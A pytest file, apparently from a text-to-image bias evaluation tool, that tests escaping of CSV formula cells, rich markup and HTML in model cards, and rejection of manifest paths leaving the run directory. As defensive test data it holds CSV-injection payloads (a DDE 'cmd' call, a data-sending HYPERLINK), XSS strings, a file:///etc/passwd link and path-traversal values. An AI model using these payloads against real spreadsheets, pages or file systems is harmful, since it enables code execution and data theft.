"""Text and paths from files a user did not write themselves reach terminals, spreadsheets,
model cards and the file system as data only: rich markup is shown, not run; a cell that would
start a spreadsheet formula is quoted; HTML and links from a config never render in the model
card; a manifest path never leads outside its run."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import shutil
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from t2ibias.core.csvsafe import escape_cell, frame_to_csv, rows_to_csv, unescape_cell
from t2ibias.core.errors import UserError
from tests.test_cli import error_line, in_process

MARKUP = "[/x] [bold]loud[/bold] [link=file:///etc/passwd]y[/link]"
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "+SUM(1,2)", "-2+3*cmd|' /C calc'!A0",
            "@SUM(A1)", "\tcmd", "\r=1"]
HTML = '<script>alert(1)</script><img src=x onerror=alert(2)> [click](javascript:alert(3)) <javascript:alert(4)>'


def _formula_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would evaluate: text starting =, +, -, @, tab or CR."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    bad = []
    for c in cells:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(c)
            except ValueError:
                bad.append(c)
    return bad


# ------------------------------------------------------------------------------ CSV cells


@pytest.mark.parametrize("text", FORMULAS + ["'=already quoted", "''=twice", "=", "－1+1"])
def test_formula_text_is_quoted_and_reads_back(text: str) -> None:
    cell = escape_cell(text)
    assert cell == "'" + text
    assert unescape_cell(cell) == text


@pytest.mark.parametrize("value", [-0.5, 3, None, True, "-0.5", "+2", "1e-3", "plain", "it's", "'quoted", ""])
def test_numbers_and_plain_text_are_left_alone(value) -> None:
    assert escape_cell(value) == value and unescape_cell(value) == value


def test_frame_and_rows_writers_quote_text_cells_only() -> None:
    import pandas as pd

    text = frame_to_csv(pd.DataFrame({"group": ["=cmd", "ok"], "value": [-1.5, 2.0], "note": [None, "@x"]}))
    assert text.splitlines() == ["group,value,note", "'=cmd,-1.5,", "ok,2.0,'@x"]
    assert rows_to_csv(["=h", "n"], [["-x", -3]]).splitlines() == ["'=h,n", "'-x,-3"]


def test_audit_predictions_round_trip_through_the_agreement_reader(tmp_path: Path) -> None:
    from t2ibias.store.audit_file import _csv_text
    from t2ibias.metrics.agreement import paired_predictions

    cols = ["person_id", "attribute", "true", "pred", "top_label", "score"]
    for name, pred in (("a", "=masc"), ("b", "fem")):
        (tmp_path / name).mkdir()
        rows = [[7, "gender_presentation", "+older", pred, pred, 0.9], [8, "gender_presentation", "fem", "-x", "-x", -0.25]]
        (tmp_path / name / "predictions.csv").write_text(_csv_text(cols, rows))
    assert not _formula_cells(tmp_path / "a" / "predictions.csv")
    frame = paired_predictions(tmp_path / "a", tmp_path / "b", "gender_presentation")
    assert frame["label_a"].tolist() == ["=masc", "-x"] and frame["group"].tolist() == ["+older", "fem"]


def test_facet_csv_outputs_quote_class_and_group_text(tmp_path: Path) -> None:
    from facet_eval.classification import print_largest_gaps, write_largest_gaps
    from facet_eval.disaggregate import write_outputs

    gap = {"attribute": "gender_presentation", "direction": "masc-fem", "group_a": "masc", "group_b": "fem",
           "pair": ("masc", "fem"), "rank": 1, "class": "=HYPERLINK(\"x\")" + MARKUP, "gap": -0.2, "ci_low": -0.3,
           "ci_high": -0.1, "recall_a": 0.5, "recall_b": 0.7, "n_a": 60, "n_b": 70}
    path = write_largest_gaps([gap], tmp_path / "largest_gaps.csv")
    assert not _formula_cells(path) and "-0.2" in path.read_text()
    console = Console(record=True, width=300)
    print_largest_gaps([gap], console)
    assert MARKUP in console.export_text()
    row = {"task": "detection", "metric": "mAR", "attribute": "gender_presentation", "group": "@evil" + MARKUP,
           "class": None, "value": -0.0, "n": 60, "ci_low": None, "ci_high": None}
    write_outputs([row], tmp_path / "det", console)
    assert not _formula_cells(tmp_path / "det" / "metrics.csv")


# ------------------------------------------------------------------------------ a hostile sweep


@pytest.fixture(scope="module")
def hostile_sweep(tmp_path_factory, t2ibias_cache):
    """A sweep whose prompt subjects are rich markup and spreadsheet formulas and whose generator
    config (tiny-random-sd's weights) carries HTML and a javascript: link."""
    root = tmp_path_factory.mktemp("hostile")
    subjects = [MARKUP, *FORMULAS[:4]]
    (root / "hostile_set.yaml").write_text(json.dumps({
        "id": "hostile_set", "version": 1, "description": "subjects a careless or hostile user brings",
        "provenance": ["made up for this test"],
        "families": {"occupation": {"templates": {"portrait": "a portrait photo of a {subject}"}, "subjects": subjects}},
    }))
    (root / "hostile-gen.yaml").write_text(json.dumps({
        "source": "tiny:tiny-random-sd", "revision": HTML, "pipeline": "StableDiffusionPipeline", "dtype": "float32",
        "steps": 2, "guidance": 7.5, "height": 64, "width": 64, "licence": HTML, "notes": HTML, "random_weights": True,
    }))
    return root, subjects


def test_markup_and_formula_subjects_survive_sweep_and_score(hostile_sweep, monkeypatch, capsys, one_torch_thread):
    root, subjects = hostile_sweep
    run_dir = root / "run"
    code, out, err = in_process(monkeypatch, capsys, "sweep", "--model", str(root / "hostile-gen.yaml"),
                                "--prompts", str(root / "hostile_set.yaml"), "--seeds", "1", "--device", "cpu",
                                "--out", str(run_dir))
    assert code == 0, err
    assert "Traceback" not in out + err
    code, out, err = in_process(monkeypatch, capsys, "score", str(run_dir), "--print", "all")  # every prompt's table
    assert code == 0, err
    flat = " ".join(out.split())
    assert "[/x] [bold]loud[/bold]" in flat  # shown as typed, not parsed as markup

    assert not _formula_cells(run_dir / "metrics.csv")
    with open(run_dir / "metrics.csv", newline="", encoding="utf-8") as fh:
        groups = {row["group"] for row in csv.DictReader(fh) if row["group_by"] == "subject"}
    assert {unescape_cell(g) for g in groups} == set(subjects)
    assert "'" + FORMULAS[0] in groups

    card = (run_dir / "model_card.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable("table").render(card)
    assert not re.search(r"<(script|img|a)\b", html, re.I)
    assert "javascript:" not in " ".join(re.findall(r'href="([^"]*)"', html))
    assert "&lt;script&gt;" in html  # the text is kept, as text


@pytest.mark.parametrize("field, value, message", [
    ("licence", ["CreativeML", 1], "licence must be text, not list"),
    ("notes", 5, "notes must be text, not int"),
    ("revision", 20240101, "revision must be text, not int"),
    ("variant", {"fp16": True}, "variant must be text, not dict"),
    ("random_weights", "yes", "random_weights must be true or false"),
    ("call_kwargs", ["max_sequence_length", 256], "call_kwargs must be a mapping"),
    ("source", "  ", "source is empty"),
])
def test_generator_config_fields_are_type_checked(tmp_path, monkeypatch, capsys, field, value, message):
    cfg = {"source": "tiny:tiny-random-sd", "pipeline": "StableDiffusionPipeline", "dtype": "float32", field: value}
    path = tmp_path / "odd.yaml"
    path.write_text(json.dumps(cfg))
    code, _, err = in_process(monkeypatch, capsys, "sweep", "--model", str(path), "--out", str(tmp_path / "run"))
    line = error_line(code, err)
    assert str(path) in line and message in line
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("edit, message", [
    ({"quick_gelu": "false"}, "quick_gelu must be true or false"),
    ({"arch": ["ViT-B-32"]}, "arch must be an open_clip architecture name"),
    ({"pretrained": 7}, "pretrained must be an open_clip tag or a checkpoint path"),
    ({"arch_config": [1]}, "arch_config must be a mapping"),
    ({"include": "../../secret"}, "include must name a classifier id"),
    ({"preprocess": {"image_size": "224", "mean": [0.5] * 3, "std": [0.5] * 3, "interpolation": "bicubic",
                     "resize_mode": "shortest"}}, "image_size must be a positive integer"),
    ({"preprocess": {"image_size": 224, "mean": [0.5] * 3, "std": [0.5, 0, 0.5], "interpolation": "bicubic",
                     "resize_mode": "shortest"}}, "std must be three numbers"),
])
def test_classifier_config_fields_are_type_checked(tmp_path, edit, message):
    import yaml

    from t2ibias.models.classifier_spec import CLASSIFIER_DIR, load_classifier_spec_file

    data = yaml.safe_load((CLASSIFIER_DIR / "tiny-random-clip.yaml").read_text())
    data.update(edit)
    path = tmp_path / "odd-clip.yaml"
    path.write_text(json.dumps(data))
    with pytest.raises(UserError, match=re.escape(message)) as info:
        load_classifier_spec_file(path)
    assert str(info.value).startswith(f"{path}:") and "\n" not in str(info.value)


def test_model_card_escapes_every_value_from_the_run(tmp_path):
    from t2ibias.report import write_model_card
    from tests.test_report import make_run

    run = make_run(tmp_path)
    spec = json.loads((run / "spec.json").read_text())
    tick = "`" + HTML + "``"
    spec["model"].update(id=tick, revision=HTML, pipeline=HTML, steps=HTML, guidance=HTML, height=HTML, width=HTML)
    spec["classifier"]["id"] = HTML
    spec.update(created=HTML, t2ibias_version=HTML)
    spec["prompt_sets"][0].update(id=tick, version=HTML)
    (run / "spec.json").write_text(json.dumps({**spec, "n_seeds": HTML}))
    with pytest.raises(UserError, match="field n_seeds"):  # fields the stages rely on are checked, not shown
        write_model_card(run)
    (run / "spec.json").write_text(json.dumps(spec))
    metrics = json.loads((run / "metrics.json").read_text())
    metrics["metrics"]["normalized_entropy"]["definition"] = HTML + "\n\n# heading\n| a | b |"
    for row in metrics["rows"]:
        if row["label"] == "masc":
            row["label"] = HTML
    (run / "metrics.json").write_text(json.dumps(metrics))
    card = write_model_card(run).read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable("table").render(card)
    assert not re.search(r"<(script|img|a|h1)\b", html, re.I)
    assert html.count("<table>") == 1 and "<code>" + tick.replace("<", "&lt;").replace(">", "&gt;") in html
    row = next(line for line in card.splitlines() if line.startswith("| `gender_presentation`"))
    assert row.count(" | ") == 3  # the hostile label did not add table cells


# ------------------------------------------------------------------------------ run paths


@pytest.fixture(scope="module")
def small_run(tmp_path_factory, t2ibias_cache):
    from tests.run_fixtures import make_face_run

    return make_face_run(tmp_path_factory.mktemp("paths") / "run")


def _point_outside(run_dir: Path, key: str, how: str) -> Path:
    """Rewrite ``key``'s manifest row so its path leaves the run, to a valid PNG with the row's hash."""
    from t2ibias.store.image_store import ImageStore

    store = ImageStore(run_dir)
    row = store.records()[key]
    outside = run_dir.parent / f"outside-{how}.png"
    shutil.copy(run_dir / row["path"], outside)
    if how == "dotdot":
        rel = f"../{outside.name}"
    elif how == "absolute":
        rel = str(outside)
    else:
        (run_dir / "images" / "link").symlink_to(run_dir.parent, target_is_directory=True)
        rel = f"images/link/{outside.name}"
    assert hashlib.sha256(outside.read_bytes()).hexdigest() == row["sha256"]
    with open(run_dir / "manifest-0.jsonl", "a", encoding="utf-8") as fh:
        fh.write(json.dumps({**row, "path": rel}, sort_keys=True) + "\n")
    return outside


@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink"])
def test_manifest_path_outside_the_run(small_run, tmp_path, monkeypatch, capsys, how, one_torch_thread):
    run_dir = shutil.copytree(small_run[0], tmp_path / "run", symlinks=True)
    key = small_run[1]
    _point_outside(run_dir, key, how)
    code, _, err = in_process(monkeypatch, capsys, "validate", str(run_dir))
    line = error_line(code, err)
    assert "manifest-0.jsonl: key " + key + ": field path" in line and "run directory" in line

    before = {p.name: p.read_bytes() for p in run_dir.iterdir() if p.is_file()}
    code, _, err = in_process(monkeypatch, capsys, "measure", str(run_dir), "--device", "cpu")
    line = error_line(code, err)
    assert key in line and "field path" in line
    from t2ibias.store.rundir import read_measurements

    assert key not in set(read_measurements(run_dir)["key"])  # the file outside was never measured
    assert (run_dir / "manifest-0.jsonl").read_bytes() == before["manifest-0.jsonl"]

    code, _, err = in_process(monkeypatch, capsys, "generate", str(run_dir), "--device", "cpu")
    assert code == 0, err
    code, out, err = in_process(monkeypatch, capsys, "validate", str(run_dir))
    assert code == 0 and "2 of 2 images intact" in out, err
    from t2ibias.store.image_store import ImageStore

    remade = ImageStore(run_dir).records()[key]["path"]
    assert remade.startswith("images/") and ".." not in remade  # the image was remade inside the run


def test_report_never_thumbnails_a_file_outside_the_run(tmp_path):
    from t2ibias.report import write_report
    from tests.test_report import make_run

    run = make_run(tmp_path)
    secret = tmp_path / "secret.png"
    shutil.copy(run / "images" / "k1.png", secret)
    lines = (run / "manifest-000.jsonl").read_text().splitlines()
    lines = [line.replace('"images/k1.png"', json.dumps(str(secret))) for line in lines]
    (run / "manifest-000.jsonl").write_text("\n".join(lines) + "\n")
    html = write_report(run).read_text(encoding="utf-8")
    assert f"file missing: {secret}" in html


def test_factuality_tables_show_culture_and_intervention_names_as_typed():
    import pandas as pd

    from t2ibias.cli.factuality import results_table, tax_rich_table

    cell = {"n_instances": 2, "n_scored": 1, **{f"{m}{s}": (None if s else 0.5) for m in (
        "dominant_demographic_accuracy", "involved_demographic_accuracy", "involved_demographic_f1",
        "factual_diversity_divergence", "success_rate") for s in ("", "_ci")}}
    result = {**cell, "by_culture": {MARKUP: cell}}
    console = Console(record=True, width=400)
    console.print(results_table(result, "title " + MARKUP))
    tax = pd.DataFrame([{"intervention": MARKUP, "n_paired": 1, **{f"delta_{m}{s}": 0.1 for m in (
        "dominant_demographic_accuracy", "involved_demographic_accuracy", "involved_demographic_f1", "diversity")
        for s in ("", "_ci_low", "_ci_high")}}])
    console.print(tax_rich_table(tax))
    text = console.export_text()
    assert text.count("[/x] [bold]loud[/bold]") == 3
